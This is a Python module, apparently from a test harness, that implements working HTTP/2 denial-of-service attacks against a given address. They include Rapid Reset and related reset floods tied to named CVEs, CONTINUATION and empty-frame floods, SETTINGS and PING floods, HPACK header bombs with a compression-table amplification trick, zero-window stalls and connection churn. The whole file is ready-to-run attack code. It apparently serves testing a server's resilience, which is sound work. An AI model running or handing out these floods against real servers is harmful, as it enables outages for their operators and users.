"""Attacks by number: more of something than any honest client sends.

An attack takes the address, how long to go on and a counter of what was seen, and is run in a process
of its own.
"""

import itertools
import time

from caller import question
from peer import Peer, raw, request, settings

INITIAL_WINDOW_SIZE = 4
HEADER_TABLE_SIZE = 1


def _again_and_again(address, seconds, seen, act, connections=2, hello=None):
    """Acts on connections, each made anew when it was closed, until the time is over."""
    until = time.monotonic() + seconds
    peers = [None] * connections
    while time.monotonic() < until:
        for number, peer in enumerate(peers):
            if peer is None or not peer.is_open:
                try:
                    peers[number] = peer = Peer(address, hello, seen)
                except OSError:
                    seen["refused"] += 1
                    continue
                seen["connections"] += 1
            act(peer)
    for peer in peers:
        if peer is not None:
            peer.look(0.2)
            peer.close()


def rapid_reset(address, seconds, seen):
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""

    def act(peer):
        burst = b""
        for _ in range(100):
            stream = peer.stream_id()
            burst += peer.headers(stream) + raw(3, 0, stream, (8).to_bytes(4, "big"))
            seen["attacks"] += 1
        peer.send(burst)
        peer.look()

    _again_and_again(address, seconds, seen, act)


def reset_by_the_server(address, seconds, seen):
    """Calls that are made wrong, so that the server takes them back itself (CVE-2025-8671)."""

    def act(peer):
        burst = b""
        for _ in range(100):
            stream = peer.stream_id()
            # a window that grows beyond what there is is an error of the stream
            burst += peer.headers(stream) + raw(8, 0, stream, b"\x7f\xff\xff\xff")
            seen["attacks"] += 1
        peer.send(burst)
        peer.look()

    _again_and_again(address, seconds, seen, act)


def continuation_flood(address, seconds, seen):
    """Headers that never end (CVE-2024-27316)."""

    def act(peer):
        stream = peer.stream_id()
        burst = peer.headers(stream, flags=0)
        for number in range(64):
            more = [(f"x-{number}-{at}", "a" * 100) for at in range(100)]
            burst += raw(9, 0, stream, peer.encoder.encode(more, huffman=False))
            seen["attacks"] += 1
        peer.send(burst)
        peer.look(0.01)

    _again_and_again(address, seconds, seen, act)


def empty_continuations(address, seconds, seen):
    """The same, of frames with nothing in them."""

    def act(peer):
        peer.send(peer.headers(peer.stream_id(), flags=0) + raw(9, 0, peer.next_stream - 2, b"") * 2000)
        seen["attacks"] += 2000
        peer.look(0.01)

    _again_and_again(address, seconds, seen, act)


def settings_flood(address, seconds, seen):
    """SETTINGS, of which each has to be acknowledged; one peer reads that, one does not."""

    def act(peer):
        peer.send(settings({HEADER_TABLE_SIZE: 4096, INITIAL_WINDOW_SIZE: 65535}) * 500)
        seen["attacks"] += 500
        if peer is not deaf.setdefault("peer", peer):
            peer.look()

    deaf = {}
    _again_and_again(address, seconds, seen, act)


def ping_flood(address, seconds, seen):
    """PINGs, the same way."""

    def act(peer):
        peer.send(raw(6, 0, 0, b"whatever") * 500)
        seen["attacks"] += 500
        if peer is not deaf.setdefault("peer", peer):
            peer.look()

    deaf = {}
    _again_and_again(address, seconds, seen, act)


def useless_frames(address, seconds, seen):
    """Frames that change nothing: PRIORITY, tiny windows, kinds that nobody knows; and empty DATA on one connection."""
    kinds = itertools.cycle(("with DATA", "without DATA"))

    def act(peer):
        peer.kind = getattr(peer, "kind", None) or next(kinds)
        stream = peer.stream_id()
        burst = peer.headers(stream)
        if peer.kind == "with DATA":
            burst += raw(0, 0, stream, b"") * 200
        burst += raw(2, 0, stream, (0).to_bytes(4, "big") + b"\x10") * 200
        burst += raw(8, 0, stream, (1).to_bytes(4, "big")) * 200
        burst += raw(0xFA, 0, 0, b"grease") * 200
        peer.send(burst + raw(3, 0, stream, (8).to_bytes(4, "big")))
        seen["attacks"] += 800
        peer.look()
        if not peer.is_open:
            seen[f"cut: {peer.kind}"] += 1

    _again_and_again(address, seconds, seen, act)


def header_bombs(address, seconds, seen):
    """Metadata beyond the limit: one long value, many short ones, a short block that unpacks to much."""

    def act(peer):
        for extra in ([("x-long", "a" * 60_000)], [(f"x-{number}", "b") for number in range(2000)]):
            block = peer.encoder.encode(request(extra=extra), huffman=False)
            stream = peer.stream_id()
            pieces = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
            burst = raw(1, 0x4 if len(pieces) == 1 else 0, stream, pieces[0])
            for number, piece in enumerate(pieces[1:], 2):
                burst += raw(9, 0x4 if number == len(pieces) else 0, stream, piece)
            peer.send(burst)
            seen["attacks"] += 1
        # an entry of 4 kB put into the server's table, and asked for by its number four thousand times
        stream = peer.stream_id()
        literal = b"\x40\x01x\x7f" + bytes([(3900 - 127) & 0x7F | 0x80, (3900 - 127) >> 7]) + b"c" * 3900
        block = peer.encoder.encode(request(), huffman=False) + literal + b"\xbe" * 4000
        peer.send(raw(1, 0x4, stream, block))
        seen["attacks"] += 1
        peer.look(0.05)

    _again_and_again(address, seconds, seen, act)


def zero_window(address, seconds, seen):
    """Calls whose answers are never let out."""
    peers = []
    until = time.monotonic() + seconds
    body = question()
    while time.monotonic() < until:
        if len(peers) < 100:
            try:
                peer = Peer(address, {INITIAL_WINDOW_SIZE: 0}, seen)
            except OSError:
                seen["refused"] += 1
                continue
            peers.append(peer)
            seen["connections"] += 1
            burst = b""
            for _ in range(250):
                stream = peer.stream_id()
                burst += peer.headers(stream) + raw(0, 1, stream, body)
                seen["attacks"] += 1
            peer.send(burst)
        else:
            time.sleep(0.02)
        for peer in peers[-20:]:
            peer.look()
    for peer in peers:
        peer.close()


def churn(address, seconds, seen):
    """Connections that go as soon as they have come, in the middle of a word or after it."""
    import socket

    until = time.monotonic() + seconds
    words = [b"", b"PRI * HT", b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", bytes(100)]
    while time.monotonic() < until:
        for word in words:
            try:
                with socket.create_connection(address, timeout=1) as stream:
                    stream.sendall(word)
                seen["attacks"] += 1
            except OSError:
                seen["refused"] += 1
        # 4,000 a second would use up the ports of the loopback interface
        time.sleep(0.002)
